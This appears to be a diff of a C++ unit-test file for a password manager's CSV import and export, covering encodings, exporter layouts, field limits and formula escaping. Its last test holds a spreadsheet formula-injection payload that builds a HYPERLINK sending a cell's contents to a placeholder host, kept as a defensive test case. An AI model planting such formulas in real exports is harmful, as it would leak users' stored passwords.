@@ -2,60 +2,10 @@
 
 #include <gtest/gtest.h>
 
+#include "tests/support/latin1_codec.h"
+
 namespace tessaly {
 namespace {
-
-// UTF-8 to Latin-1 and back, as the platform's conversions would for the
-// Western code page; '?' for what Latin-1 cannot hold.
-CsvTextCodec latin1()
-{
-    CsvTextCodec codec;
-    codec.fromUtf8 = [](std::string_view utf8, bool& replaced) {
-        std::string out;
-        for (size_t i = 0; i < utf8.size(); ++i) {
-            const auto c = static_cast<unsigned char>(utf8[i]);
-            if (c < 0x80) {
-                out += static_cast<char>(c);
-            } else if ((c & 0xE0) == 0xC0 && c <= 0xC3) {
-                out += static_cast<char>((c & 0x1F) << 6 | (static_cast<unsigned char>(utf8[++i]) & 0x3F));
-            } else {
-                out += '?';
-                replaced = true;
-                while (i + 1 < utf8.size() && (static_cast<unsigned char>(utf8[i + 1]) & 0xC0) == 0x80) ++i;
-            }
-        }
-        return out;
-    };
-    codec.toUtf8 = [](std::string_view ansi) {
-        std::string out;
-        for (char ch : ansi) {
-            const auto c = static_cast<unsigned char>(ch);
-            if (c < 0x80) {
-                out += ch;
-            } else {
-                out += static_cast<char>(0xC0 | c >> 6);
-                out += static_cast<char>(0x80 | (c & 0x3F));
-            }
-        }
-        return out;
-    };
-    // The BMP and surrogate pairs, as the system converts them.
-    codec.fromUtf16 = [](std::u16string_view units) {
-        std::string out;
-        for (size_t i = 0; i < units.size(); ++i) {
-            char32_t code = units[i];
-            if (code >= 0xD800 && code <= 0xDBFF && i + 1 < units.size()) {
-                code = 0x10000 + ((code - 0xD800) << 10) + (units[++i] - 0xDC00);
-            }
-            const int more = code < 0x80 ? 0 : code < 0x800 ? 1 : code < 0x10000 ? 2 : 3;
-            constexpr unsigned char kLead[] = {0x00, 0xC0, 0xE0, 0xF0};
-            out += static_cast<char>(kLead[more] | (code >> (6 * more)));
-            for (int k = more - 1; k >= 0; --k) out += static_cast<char>(0x80 | ((code >> (6 * k)) & 0x3F));
-        }
-        return out;
-    };
-    return codec;
-}
 
 TEST(CsvList, ABrowsersExportWithQuotingAndLineBreaksIsReadWhole)
 {
@@ -64,7 +14,7 @@ TEST(CsvList, ABrowsersExportWithQuotingAndLineBreaksIsReadWhole)
                              ",,bob,pw,\r\n"
                              "\r\n"
                              "Caf\xC3\xA9,,zoe,x\xE2\x82\xAC,\n";
-    const CsvImport read = readCsvList(file, latin1());
+    const CsvImport read = readCsvList(file, latin1ProgramCodec());
     ASSERT_EQ(read.problem, CsvProblem::None);
     const std::vector<PasswordEntry> expected{
         {"amy", "p,\"q\"", "Bank - https://bank.example - two\r\nlines"},
@@ -72,29 +22,29 @@ TEST(CsvList, ABrowsersExportWithQuotingAndLineBreaksIsReadWhole)
         {"zoe", "x?", "Caf\xE9"},
     };
     EXPECT_EQ(read.entries, expected);
-    EXPECT_EQ(read.changedEntries, 1u) << "the euro sign has no Latin-1 character";
-    ASSERT_EQ(read.changed.size(), 1u);
-    EXPECT_EQ(read.changed[0].title, "Caf\xE9");
-    EXPECT_TRUE(read.changed[0].pass);
-    EXPECT_FALSE(read.changed[0].user);
+    EXPECT_EQ(read.changed.count, 1u) << "the euro sign has no Latin-1 character";
+    ASSERT_EQ(read.changed.first.size(), 1u);
+    EXPECT_EQ(read.changed.first[0].title, "Caf\xE9");
+    EXPECT_TRUE(read.changed.first[0].pass);
+    EXPECT_FALSE(read.changed.first[0].user);
 }
 
 TEST(CsvList, ColumnsAreFoundByTheirNamesInAnyCaseAndSemicolonsSeparateWithoutCommas)
 {
     const std::string semicolons = " E-Mail ;Login Name; PASS ;Description\n"
                                    "x@y.example;ann;s3;own words\n";
-    const CsvImport read = readCsvList(semicolons, latin1());
+    const CsvImport read = readCsvList(semicolons, latin1ProgramCodec());
     ASSERT_EQ(read.problem, CsvProblem::None);
     EXPECT_EQ(read.entries, (std::vector<PasswordEntry>{{"ann", "s3", "own words - x@y.example"}}))
         << "an address beside the user name is kept in the description";
 
-    const CsvImport mixed = readCsvList("title;note,login_username,login_password\nA;B,u,p\n", latin1());
+    const CsvImport mixed = readCsvList("title;note,login_username,login_password\nA;B,u,p\n", latin1ProgramCodec());
     ASSERT_EQ(mixed.problem, CsvProblem::None) << "a comma in the header: commas separate";
     EXPECT_EQ(mixed.entries, (std::vector<PasswordEntry>{{"u", "p", "title;note: A;B"}})) << "a field kept by its name";
 
-    const CsvImport ansi = readCsvList("user,password\n\xF1o\xF1o,pw\n", latin1());
+    const CsvImport ansi = readCsvList("user,password\n\xF1o\xF1o,pw\n", latin1ProgramCodec());
     EXPECT_EQ(ansi.entries, (std::vector<PasswordEntry>{{"\xF1o\xF1o", "pw", ""}})) << "not UTF-8: already ANSI";
-    EXPECT_EQ(ansi.changedEntries, 0u);
+    EXPECT_EQ(ansi.changed.count, 0u);
 }
 
 TEST(CsvList, KnownExportsComeWholeWithTheirEscapesNotesAndAddresses)
@@ -104,25 +54,25 @@ TEST(CsvList, KnownExportsComeWholeWithTheirEscapesNotesAndAddresses)
                                           "\r\n"
                                           R"("Work","CORP\\jdoe","e\\p{v6\"x","https://intra.example","a \"b\"")"
                                           "\r\n",
-                                          latin1());
+                                          latin1ProgramCodec());
     ASSERT_EQ(keepass.problem, CsvProblem::None);
     EXPECT_EQ(keepass.entries,
               (std::vector<PasswordEntry>{{"CORP\\jdoe", "e\\p{v6\"x", "Work - https://intra.example - a \"b\""}}));
 
     // Elsewhere a backslash is a character like any other.
-    const CsvImport plain = readCsvList("username,password\r\n\"CORP\\\\jdoe\",x\r\n", latin1());
+    const CsvImport plain = readCsvList("username,password\r\n\"CORP\\\\jdoe\",x\r\n", latin1ProgramCodec());
     EXPECT_EQ(plain.entries, (std::vector<PasswordEntry>{{"CORP\\\\jdoe", "x", ""}}));
 
     // LastPass keeps notes in "extra"; a login with only an e-mail address
     // (Proton Pass) takes it as the user name; RoboForm names the password "Pwd".
     const CsvImport lastPass = readCsvList("url,username,password,totp,extra,name,grouping,fav\n"
                                            "https://a.example,al,pw,,remember me,Shop,,0\n",
-                                           latin1());
+                                           latin1ProgramCodec());
     EXPECT_EQ(lastPass.entries, (std::vector<PasswordEntry>{{"al", "pw", "Shop - https://a.example - remember me"}}));
     const CsvImport proton = readCsvList("name,url,email,username,password,note\n"
                                          "Mail,,me@x.example,,pw1,\n"
                                          "Forum,,me@x.example,meme,pw2,\n",
-                                         latin1());
+                                         latin1ProgramCodec());
     EXPECT_EQ(proton.entries,
               (std::vector<PasswordEntry>{{"me@x.example", "pw1", "Mail"}, {"meme", "pw2", "Forum - me@x.example"}}));
     // The exporter is named where the whole header is one known.
@@ -133,13 +83,13 @@ TEST(CsvList, KnownExportsComeWholeWithTheirEscapesNotesAndAddresses)
         readCsvList("\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\",\"TOTP\","
                     "\"Icon\",\"Last Modified\",\"Created\"\n"
                     "\"Root\",\"Bank\",\"kim\",\"pw\",\"\",\"\",\"\",\"0\",\"2024-01-01\",\"2023-01-01\"\n",
-                    latin1());
+                    latin1ProgramCodec());
     EXPECT_EQ(keePassXc.layout, "KeePassXC");
     EXPECT_EQ(keePassXc.entries, (std::vector<PasswordEntry>{{"kim", "pw", "Bank - Group: Root"}}))
         << "its icon and times are bookkeeping";
     const CsvImport roboForm = readCsvList("Name,Url,MatchUrl,Login,Pwd,Note,Folder,RfFieldsV2\n"
                                            "Bank,https://b.example,,rob,secret,,,\n",
-                                           latin1());
+                                           latin1ProgramCodec());
     EXPECT_EQ(roboForm.entries, (std::vector<PasswordEntry>{{"rob", "secret", "Bank - https://b.example"}}));
     EXPECT_EQ(roboForm.layout, "RoboForm");
 }
@@ -151,7 +101,7 @@ TEST(CsvList, NothingARowSaysIsDroppedButFoldersAndBookkeeping)
     const CsvImport read = readCsvList("url,username,password,httpRealm,guid,timeCreated,totp,Folder,Pin\n"
                                        "https://a.example,ann,pw,Staff,{1},1700,JBSWY3DP,Work,1234\n"
                                        ",,,,{2},1700,,Home,\n",
-                                       latin1());
+                                       latin1ProgramCodec());
     ASSERT_EQ(read.problem, CsvProblem::None);
     EXPECT_EQ(read.entries,
               (std::vector<PasswordEntry>{
@@ -160,7 +110,8 @@ TEST(CsvList, NothingARowSaysIsDroppedButFoldersAndBookkeeping)
     EXPECT_FALSE(read.repeatedColumns);
 
     // A name that stands twice: the first non-empty cell wins, and it is told.
-    const CsvImport twice = readCsvList("username,password,username\nfirst,pw,second\n,pw2,only\n", latin1());
+    const CsvImport twice = readCsvList("username,password,username\nfirst,pw,second\n,pw2,only\n",
+                                        latin1ProgramCodec());
     EXPECT_EQ(twice.entries, (std::vector<PasswordEntry>{{"first", "pw", ""}, {"only", "pw2", ""}}));
     EXPECT_TRUE(twice.repeatedColumns);
 }
@@ -174,12 +125,12 @@ TEST(CsvList, SpreadsheetsUnicodeTextAndTabsAreRead)
         bytes += static_cast<char>(unit & 0xFF);
         bytes += static_cast<char>(unit >> 8);
     }
-    const CsvImport read = readCsvList(bytes, latin1());
+    const CsvImport read = readCsvList(bytes, latin1ProgramCodec());
     ASSERT_EQ(read.problem, CsvProblem::None);
     EXPECT_EQ(read.entries, (std::vector<PasswordEntry>{{"zo\xEB", "p\xE4ss", "Caf\xE9 ?"}}));
-    EXPECT_EQ(read.changedEntries, 1u) << "the emoji has no Latin-1 character";
+    EXPECT_EQ(read.changed.count, 1u) << "the emoji has no Latin-1 character";
 
-    const CsvImport headerOnly = readCsvList("username,password\r\n", latin1());
+    const CsvImport headerOnly = readCsvList("username,password\r\n", latin1ProgramCodec());
     EXPECT_EQ(headerOnly.problem, CsvProblem::NoEntries);
     EXPECT_TRUE(headerOnly.entries.empty());
 }
@@ -200,7 +151,7 @@ TEST(CsvList, ProblemsNameTheirLineAndGiveNoEntries)
         {"user,pass\na,b\"c\n", CsvProblem::BrokenQuoting, 2},
     };
     for (const Case& test : cases) {
-        const CsvImport read = readCsvList(test.file, latin1());
+        const CsvImport read = readCsvList(test.file, latin1ProgramCodec());
         EXPECT_EQ(read.problem, test.problem) << test.file;
         EXPECT_EQ(read.problemLine, test.line) << test.file;
         EXPECT_TRUE(read.entries.empty()) << test.file;
@@ -211,16 +162,17 @@ TEST(CsvList, ARecordOfMoreFieldsThanAnyExportIsRefusedAtItsLine)
 {
     const std::string fields(kMaxCsvFields - 1, ',');
     // As many fields as allowed still read.
-    const CsvImport most = readCsvList("user,pass\na,b" + fields.substr(2) + "\n", latin1());
+    const CsvImport most = readCsvList("user,pass\na,b" + fields.substr(2) + "\n", latin1ProgramCodec());
     EXPECT_EQ(most.problem, CsvProblem::None);
     ASSERT_EQ(most.entries.size(), 1u);
     EXPECT_EQ(most.entries[0].pass, "b");
     // A file of commas, which once took a string for each.
-    const CsvImport commas = readCsvList("user,pass\na,b\n" + std::string(4 * kMaxCsvFields, ','), latin1());
+    const CsvImport commas = readCsvList("user,pass\na,b\n" + std::string(4 * kMaxCsvFields, ','),
+                                         latin1ProgramCodec());
     EXPECT_EQ(commas.problem, CsvProblem::TooManyFields);
     EXPECT_EQ(commas.problemLine, 3u);
     EXPECT_TRUE(commas.entries.empty());
-    const CsvImport header = readCsvList(std::string(kMaxCsvFields, ',') + "\n", latin1());
+    const CsvImport header = readCsvList(std::string(kMaxCsvFields, ',') + "\n", latin1ProgramCodec());
     EXPECT_EQ(header.problem, CsvProblem::TooManyFields);
     EXPECT_EQ(header.problemLine, 1u);
 }
@@ -228,10 +180,10 @@ TEST(CsvList, ARecordOfMoreFieldsThanAnyExportIsRefusedAtItsLine)
 TEST(CsvList, AnExportReadsBackAsTheSameList)
 {
     const std::vector<PasswordEntry> list{{"amy", "a,b\"c", "Bank\r\nmain"}, {"\xF1u", "", "plain"}, {"", "x", ""}};
-    const std::string written = writeCsvList(list, latin1());
+    const std::string written = writeCsvList(list, latin1ProgramCodec());
     EXPECT_EQ(written.substr(0, 36), "\xEF\xBB\xBFname,url,username,password,note\r\n");
     EXPECT_EQ(written.substr(36, 43), "\"Bank\r\nmain\",,amy,\"a,b\"\"c\",\r\nplain,,\xC3\xB1u,,\r\n");
-    const CsvImport read = readCsvList(written, latin1());
+    const CsvImport read = readCsvList(written, latin1ProgramCodec());
     ASSERT_EQ(read.problem, CsvProblem::None);
     EXPECT_EQ(read.entries, list);
 }
@@ -242,7 +194,7 @@ TEST(CsvList, ANameASpreadsheetWouldRunIsWrittenAsTextAndTheSecretsStayExact)
                                           {"bob", "-1", "@SUM(1)"},
                                           {"carol", "x", "-note"},
                                           {"dave", "y", "plain = text"}};
-    const CsvImport read = readCsvList(writeCsvList(list, latin1()), latin1());
+    const CsvImport read = readCsvList(writeCsvList(list, latin1ProgramCodec()), latin1ProgramCodec());
     ASSERT_EQ(read.problem, CsvProblem::None);
     ASSERT_EQ(read.entries.size(), list.size());
     const std::vector<std::string> names{"'=HYPERLINK(\"https://x.example/?p=\"&D2)", "'@SUM(1)", "'-note",
